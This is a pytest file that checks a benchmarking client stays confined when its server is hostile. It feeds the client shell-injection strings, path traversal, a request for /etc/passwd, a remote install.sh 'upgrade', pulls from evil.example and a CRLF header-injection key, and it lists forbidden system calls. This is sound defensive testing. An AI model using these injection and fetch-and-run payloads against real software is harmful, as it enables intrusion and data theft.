"""A whole client under a server that was taken over: it writes nowhere else, starts nothing, and asks nobody else.

The client is a real process whose every file, program and connection is written down by `watched_client`.
"""

import asyncio
import json
import os
import signal
import sys
from asyncio.subprocess import PIPE
from collections.abc import AsyncGenerator
from contextlib import asynccontextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from uuid import uuid4

import pytest

from tests.fake_ollama import FakeModel, FakeOllama

from ..cli.processes import UNWATCHED  # noqa: TID252 - the folder has no importable name
from ..contract_server import a_spec  # noqa: TID252
from .hostile_server import Canary, HostileServer, Raw, a_canary, hostile_server

pytestmark = pytest.mark.skipif(sys.platform == "win32", reason="it is ended with a signal of POSIX")
WATCHED = Path(__file__).with_name("watched_client.py")
MARK = "owned-by-the-server"
TOOLS = {
    "nvidia-smi", "amd-smi", "rocm-smi", "xpu-smi", "file", "uname", "systemctl", "systemd-detect-virt", "launchctl",
    "system_profiler", "sysctl", "pmset",
}  # fmt: skip
"""What looks at the machine, beside the library that reads what the processor is."""
CHANGES = ("os.rename", "os.remove", "os.rmdir", "os.mkdir", "os.chmod", "os.truncate", "shutil.rmtree")
OLLAMA = {
    ("GET", "/api/version"), ("GET", "/api/tags"), ("GET", "/api/ps"), ("POST", "/api/show"), ("POST", "/api/chat"),
    ("POST", "/api/generate"), ("POST", "/api/embed"), ("POST", "/api/pull"), ("POST", "/api/copy"),
    ("DELETE", "/api/delete"),
}  # fmt: skip


@dataclass
class Scene:
    """A client at work between a hostile server and its own Ollama."""

    server: HostileServer
    ollama: FakeOllama
    canary: Canary
    folder: Path

    @property
    def data(self) -> Path:
        return self.folder / "home" / "data"

    def events(self) -> list[Raw]:
        return [json.loads(line) for line in (self.folder / "events").read_text().splitlines()]

    def told(self, *events: str) -> list[list[Any]]:
        return [one["told"] for one in self.events() if one["event"] in events]


@asynccontextmanager
async def scene(folder: Path, **settings: str) -> AsyncGenerator[Scene]:
    async with hostile_server() as server, a_canary() as canary, FakeOllama([FakeModel("tiny", interval_ms=1)]) as fake:
        here = Scene(server, fake, canary, folder)
        here.data.mkdir(parents=True)
        identity = {"client_id": "a-client", "name": "A", "server_url": server.url, "nonce": "n" * 32, "key": "the-key"}
        (here.data / "identity.json").write_text(json.dumps(identity))
        process = await _start(here, settings)
        try:
            yield here
        finally:
            process.send_signal(signal.SIGTERM)
            _, err = await process.communicate()
            assert process.returncode == 0, err.decode()


async def _start(here: Scene, settings: dict[str, str]) -> asyncio.subprocess.Process:
    clean = {name: value for name, value in os.environ.items() if not name.startswith(("OBT_", "OLLAMA_"))}
    told = {
        "HOME": str(here.folder / "home"),
        "OBT_CLIENT_DATA_DIR": str(here.data),
        "OBT_OLLAMA_URL": here.ollama.url,
        "OBT_SERVER_URL": here.server.url,
        "OBT_ALLOW": "models",
        "OBT_HEARTBEAT_INTERVAL_S": "0.2",
        "PYTHONDONTWRITEBYTECODE": "1",
    }
    return await asyncio.create_subprocess_exec(
        sys.executable, str(WATCHED), str(here.folder / "events"), "run",
        cwd=here.folder / "home", env={**clean, **UNWATCHED, **told, **settings}, stdout=PIPE, stderr=PIPE,
    )  # fmt: skip


def hostile_job(here: Scene) -> Raw:
    """One that the client may do: all of its texts are evil, and it says more than a job has."""
    spec = a_spec("tiny:latest", here.ollama.store.all()[0].digest, samples=2).model_dump(mode="json")
    evil = f"$(touch {MARK}); `touch {MARK}` | sh\n../../../{MARK} http://{here.canary.host}/{MARK}"
    spec["suite"]["title"], spec["suite"]["description"] = f"../{MARK}", evil
    spec["suite"]["workloads"][0] |= {"prompt": {"kind": "text", "text": evil}, "purpose": evil}
    beside = {"command": f"touch {MARK}", "path": f"../{MARK}", "ollama_url": f"http://{here.canary.host}"}
    return {**spec, **beside, "suite": {**spec["suite"], **beside, "options": {**spec["suite"]["options"], **beside}}}


def operations(*told: Raw) -> list[Raw]:
    return [{"operation_id": str(uuid4()), "operation": one, "lease_s": 9, "command": MARK} for one in told]


def check_closed(here: Scene) -> None:
    """Nothing was touched but the client's own folder, and nobody asked but its server and its Ollama."""
    for (path, *_), event in [(one["told"], one["event"]) for one in here.events() if one["event"] == "open"]:
        assert Path(path).is_relative_to(here.data) or path == os.devnull, (event, path)
    for paths in here.told(
        "os.rename", "os.remove", "os.rmdir", "os.mkdir", "os.chmod", "os.truncate", "shutil.rmtree"
    ):
        assert all(Path(path).is_relative_to(here.data) for path in paths), paths
    assert here.told("os.link", "os.symlink", "os.system", "os.exec", "os.fork", "pty.spawn") == []
    for program, arguments in here.told("subprocess.Popen", "os.posix_spawn", "os.spawn"):
        assert Path(program).name in TOOLS or "cpuinfo.py" in arguments, (program, arguments)
    allowed = {here.server.port, int(here.ollama.url.rsplit(":", 1)[1])}
    assert {tuple(address)[1] for (address, *_) in here.told("socket.connect")} == allowed
    assert MARK not in json.dumps([one for one in here.events() if one["event"] != "socket.connect"])
    assert here.canary.knocks == 0
    assert not [path for path in here.folder.rglob("*") if MARK in path.name]
    asked = {(one.method, one.path) for one in here.ollama.record.requests}
    assert asked <= OLLAMA, asked


async def test_evil_texts_are_measured_as_texts_and_nothing_else(tmp_path: Path) -> None:
    async with scene(tmp_path) as here:
        here.server.directives = [
            {"kind": "run", "command": f"touch {MARK}"},
            {"kind": "send_hardware", "path": "/etc/passwd"},
            {"kind": "configure", "ollama_url": f"http://{here.canary.host}", "allow_registries": [here.canary.host]},
            {"kind": "upgrade", "url": f"http://{here.canary.host}/install.sh"},
        ]
        here.server.jobs = [job := hostile_job(here)]
        await here.server.until(lambda: job["job_id"] in here.server.outcomes)
        outcome = here.server.outcomes[job["job_id"]]
    assert (outcome["status"], outcome["sample_count"] >= 2) == ("completed", True)
    sent = [json.dumps(dict(one.body)) for one in here.ollama.record.of("/api/chat")]
    assert any(MARK in body for body in sent)  # word for word, as a prompt
    check_closed(here)


async def test_operations_ask_the_own_ollama_alone_and_only_of_registries_that_the_owner_named(tmp_path: Path) -> None:
    async with scene(tmp_path) as here:
        fetched = [f"{here.canary.host}/a/b", "evil.example/a/b", "evil.example/a", "localhost/a/b"]
        told = operations(
            *({"kind": "pull", "model": name, "insecure": True} for name in fetched),
            {"kind": "load", "model": f"{here.canary.host}/a/b"},
            {"kind": "copy", "model": "tiny", "to": f"{here.canary.host}/a/b", "push": True},
            {"kind": "delete", "model": "tiny:latest", "path": f"../{MARK}"},
        )
        here.server.operations = list(told)
        await here.server.until(lambda: {one["operation_id"] for one in told} <= here.server.outcomes.keys())
        ended = [here.server.outcomes[one["operation_id"]] for one in told]
    assert [one["error"]["code"] for one in ended[: len(fetched)]] == ["not_allowed"] * len(fetched)
    assert not here.ollama.record.of("/api/pull", "/api/push", "/api/create")
    check_closed(here)


async def test_what_the_owner_allows_is_the_owners_to_say(tmp_path: Path) -> None:
    async with scene(tmp_path, OBT_ALLOW="nothing") as here:
        here.server.directives = [{"kind": "configure", "allow": "models"}, {"kind": "send_models", "allow": "models"}]
        here.server.jobs = [job := {**hostile_job(here), "allow": "models"}]
        here.server.operations = told = operations({"kind": "delete", "model": "tiny", "allow": "models"})
        asked = told[0]["operation_id"]
        await here.server.until(lambda: {job["job_id"], asked} <= here.server.outcomes.keys())
        codes = {here.server.outcomes[one]["error"]["code"] for one in (job["job_id"], asked)}
    assert codes == {"not_allowed"}
    assert {one.path for one in here.ollama.record.requests} <= {"/api/version", "/api/tags", "/api/ps", "/api/show"}
    check_closed(here)


async def test_no_redirect_leads_it_to_another_host_and_its_key_goes_nowhere(tmp_path: Path) -> None:
    async with scene(tmp_path) as here:
        here.server.redirect_to = f"http://{here.canary.host}/api/v1/{MARK}"
        await here.server.until(lambda: len(here.server.asked) >= 2)
        here.server.redirect_to = ""
        here.server.jobs = [job := hostile_job(here)]
        await here.server.until(lambda: job["job_id"] in here.server.outcomes)
    check_closed(here)


async def test_a_key_that_is_none_is_not_kept_and_the_good_one_goes_on(tmp_path: Path) -> None:
    async with scene(tmp_path) as here:
        here.server.key_reply = {"key": f"x\r\nX-{MARK}: 1"}
        here.server.directives = [{"kind": "rotate_key"}]
        await here.server.until(lambda: here.server.asked.count("POST /api/v1/clients/a-client/key") >= 2)
        here.server.directives = []
        here.server.jobs = [job := hostile_job(here)]
        await here.server.until(lambda: job["job_id"] in here.server.outcomes)
        kept = json.loads((here.data / "identity.json").read_text())
    assert (kept["key"], kept.get("next_key")) == ("the-key", None)
    check_closed(here)
